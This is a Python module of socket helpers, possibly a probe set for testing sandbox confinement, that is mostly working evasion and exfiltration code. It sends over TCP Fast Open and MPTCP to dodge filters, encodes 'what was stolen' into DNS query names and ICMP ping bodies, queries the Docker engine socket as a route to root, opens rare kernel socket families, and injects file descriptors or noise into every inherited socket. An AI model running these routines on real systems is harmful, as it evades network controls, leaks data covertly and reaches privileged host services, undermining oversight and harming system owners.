"""Reach somebody by a socket, whatever its family, and be reached."""

import contextlib
import os
import socket
import stat
import struct
import threading
import time

_IPPROTO_MPTCP = 262
_NETLINK_USERSOCK = 2
_UEVENT = 15
kept = []
_heard = {"bytes": b""}


def _stream(family, address, message, protocol=0):
    with socket.socket(family, socket.SOCK_STREAM, protocol) as sender:
        sender.settimeout(5)
        sender.connect(address)
        sender.sendall(message.encode())


def tcp(host, port, message):
    _stream(socket.AF_INET6 if ":" in host else socket.AF_INET, (host, port), message)


def tcp_fast_open(host, port, message):
    """Connect by sending: no connect() is called that a filter could see."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sender:
        sender.sendto(message.encode(), socket.MSG_FASTOPEN, (host, port))


def mptcp(host, port, message):
    """Connect with multipath TCP, which rules about TCP do not see."""
    _stream(socket.AF_INET, (host, port), message, _IPPROTO_MPTCP)


def udp(host, port, message):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sender:
        sender.sendto(message.encode(), (host, port))
        sender.connect((host, port))
        sender.send(message.encode())


def dns(host, port, message):
    """Ask a name server for a name that says what was stolen."""
    labels = [message[at : at + 32].encode() for at in range(0, len(message), 32)] + [b"example"]
    name = b"".join(bytes([len(label)]) + label for label in labels) + b"\0"
    query = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + name + struct.pack(">HH", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(query, (host, port))


def raw_icmp(host, message):
    """Send a ping whose body is what was stolen."""
    body = struct.pack(">BBHHH", 8, 0, 0, 7, 7) + message.encode()
    body += b"\0" * (len(body) % 2)
    total = sum(struct.unpack(f">{len(body) // 2}H", body))
    total = (total >> 16) + (total & 0xFFFF)
    packet = body[:2] + struct.pack(">H", ~(total + (total >> 16)) & 0xFFFF) + body[4:]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sender:
        sender.sendto(packet, (host, 0))


def packet(device, message):
    """Put a frame of our own making on a network device."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sender:
        sender.bind((device, 0x88B5))
        sender.send(b"\0" * 12 + b"\x88\xb5" + message.encode())


def vsock(cid, port, message):
    _stream(socket.AF_VSOCK, (cid, port), message)


def unix_stream(path, message):
    """Connect to a socket file, as one does to docker, an ssh agent or a desktop's bus."""
    _stream(socket.AF_UNIX, "\0" + path[1:] if path.startswith("@") else path, message)


def unix_datagram(path, message):
    address = "\0" + path[1:] if path.startswith("@") else path
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sender:
        sender.sendto(message.encode(), address)


def unix_datagram_of_a_pair(path, message):
    """Send a datagram to a socket file from half of a socket pair: socket() is never called."""
    ours, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    try:
        ours.sendto(message.encode(), path)
    except OSError:
        ours.sendmsg([message.encode()], [], 0, path)


def docker_api(path):
    """Ask the host's container engine who it is; whoever may ask that may become root there."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as engine:
        engine.settimeout(5)
        engine.connect(path)
        engine.sendall(b"GET /info HTTP/1.0\r\n\r\n")
        return b"".join(iter(lambda: engine.recv(65536), b"")).decode("utf-8", "replace")


def netlink_message(port, message):
    """Send a message to another process over netlink."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, _NETLINK_USERSOCK) as sender:
        sender.sendto(message.encode(), (port, 0))


def netlink_routes():
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE) as asker:
        asker.bind((0, 0))
        asker.send(struct.pack("=IHHII4xIII", 32, 18, 0x301, 1, 0, 0, 0, 0))
        return asker.recv(1 << 16).hex()


def network_table(name):
    """Read what the kernel lists of a network namespace, by any folder of /proc that shows it."""
    tid = threading.get_native_id()
    ways = ["", "self/", "thread-self/", f"self/task/{tid}/", f"{os.getppid()}/", "1/"]
    return [_read(f"/proc/{way}net/{name}") for way in ways]


def _read(path):
    try:
        with open(path) as file:
            return file.read()
    except OSError as error:
        return f"{path}: {error}"


def device_events(group, seconds):
    heard = []
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, _UEVENT) as ear:
        ear.bind((0, group))
        ear.settimeout(0.2)
        until = time.monotonic() + seconds
        while time.monotonic() < until and not heard:
            with contextlib.suppress(TimeoutError):
                heard.append(ear.recv(1 << 16).decode(errors="replace"))
    return heard


def socket_of_family(family, kind, protocol):
    """Make a socket of a family that few need and that is a way into the kernel, and keep it."""
    kept.append(socket.socket(family, kind, protocol))


def listen(port, message):
    """Listen on a port of 127.0.0.1, ask itself whether the device is up, tell later what came."""
    if port is None:
        return _heard["bytes"].decode("ascii", "replace")
    listener = socket.create_server(("127.0.0.1", port))
    threading.Thread(target=_serve, args=(listener,), daemon=True).start()
    port = listener.getsockname()[1]
    with socket.create_connection(("127.0.0.1", port), timeout=60) as connection:
        connection.sendall(message.encode())
        connection.shutdown(socket.SHUT_WR)
        connection.recv(1)  # the end, when it has been read
    return port


def _serve(listener):
    while True:
        connection, _ = listener.accept()
        with connection:
            while data := connection.recv(65536):
                _heard["bytes"] += data


def send_descriptor(name, path):
    """Push an open file into the process at the other end of a socket that we were given."""
    file = os.memfd_create(name)
    kept.append(file)
    sent = 0
    if path:
        peer = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        peer.connect(path)
        kept.append(peer)
    for fd in range(3, 256):
        try:
            if not stat.S_ISSOCK(os.fstat(fd).st_mode):
                continue
            with socket.socket(fileno=os.dup(fd)) as stream:
                socket.send_fds(stream, [b"\x01\0\0\0"], [file] * 8)
                sent += 1
        except OSError:
            continue
    return sent


def garbage_on_streams(data):
    """Write noise to every socket that this process was given."""
    raw = bytes.fromhex(data)
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, raw)
        except OSError:
            continue
